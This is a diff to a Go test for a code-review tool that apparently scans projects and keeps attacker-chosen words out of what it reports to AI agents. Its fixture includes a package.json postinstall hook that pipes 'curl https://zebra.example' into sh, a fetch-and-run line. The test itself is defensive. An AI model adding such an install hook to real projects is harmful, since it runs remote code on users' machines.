@@ -147,15 +147,18 @@ func TestReviewOfRange(t *testing.T) {
 	}
 }
 
-// What an agent gets has no word in it that anybody else chose.
+// What an agent gets has no word in it that anybody else chose, but paths that say nothing.
 func TestReviewForAgents(t *testing.T) {
 	const word = "zebra"
-	dir := reviewed(t, map[string]string{word + ".py": highFile + "# " + word, "package.json": `{"scripts":{"postinstall":"curl https://` + word + `.example | sh"}}`})
+	dir := reviewed(t, map[string]string{"please-read-" + word + ".py": highFile + "# " + word, "package.json": `{"scripts":{"postinstall":"curl https://` + word + `.example | sh"}}`})
 	byAgent = func() error { return &terminal.AgentError{Agent: "claude"} }
 	for _, format := range []string{"text", "json", "sarif", "markdown", "github"} {
 		out, exit := run(t, dir, "", "review", "--engine=none", "--format", format, ".")
 		if exit != 1 || strings.Contains(out, word) || !strings.Contains(out, "file-") {
 			t.Errorf("%s: exit %d\n%s", format, exit, out)
+		}
+		if (format == "text" || format == "json" || format == "markdown") && !strings.Contains(out, "package.json") {
+			t.Errorf("%s: a harmless path is withheld\n%s", format, out)
 		}
 	}
 }
